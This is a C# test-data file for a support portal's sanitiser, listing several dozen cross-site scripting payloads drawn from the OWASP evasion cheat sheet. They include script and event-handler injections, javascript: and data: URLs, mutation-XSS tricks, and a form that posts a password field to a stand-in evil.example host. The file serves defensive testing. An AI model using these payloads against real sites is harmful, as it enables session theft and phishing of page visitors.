namespace SupportPortal.Web.Tests;

/// <summary>
/// Known cross-site scripting payloads (OWASP filter-evasion cheat sheet and friends). Each one, wherever it comes
/// from — an article body in HTML or Markdown, or a visitor's comment — must reach the page harmless.
/// </summary>
public static class KbXssCorpus
{
    public static readonly string[] Payloads =
    [
        "<script>alert('xss')</script>",
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert('xss')\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<img src=`javascript:alert(1)`>",
        "<a href=\"javascript:alert(1)\">click me</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">tab-split scheme</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">entity scheme</a>",
        "<a href=\" javascript:alert(1)\">leading space</a>",
        "<a href=\"vbscript:msgbox(1)\">vbscript</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data url</a>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"https://evil.example/x.swf\">",
        "<div style=\"background-image: url(javascript:alert(1))\">styled</div>",
        "<div style=\"width: expression(alert(1))\">ie expression</div>",
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999\">overlay</p>",
        "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<form action=\"https://evil.example/steal\"><input name=password><button formaction=\"javascript:alert(1)\">Go</button></form>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "\"><script>alert(document.cookie)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<a href=\"https://ok.example\" target=\"_blank\" onclick=\"alert(1)\">ok link</a>",
        "[markdown link](javascript:alert(1))",
        "![markdown image](javascript:alert(1))",
        "<div id=\"blazor-error-ui\" class=\"mud-button-root\">clobbering</div>",
    ];

    public static TheoryData<int> Indexes()
    {
        var data = new TheoryData<int>();
        for (var i = 0; i < Payloads.Length; i++)
        {
            data.Add(i);
        }

        return data;
    }
}
